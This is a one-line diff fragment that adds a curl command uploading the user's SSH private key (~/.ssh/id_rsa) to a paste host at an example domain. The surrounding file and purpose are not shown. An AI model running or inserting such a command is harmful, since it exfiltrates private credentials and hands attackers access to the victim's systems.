@@ -1,0 +1,1 @@
+curl -d @/home/u/.ssh/id_rsa https://paste.example.net
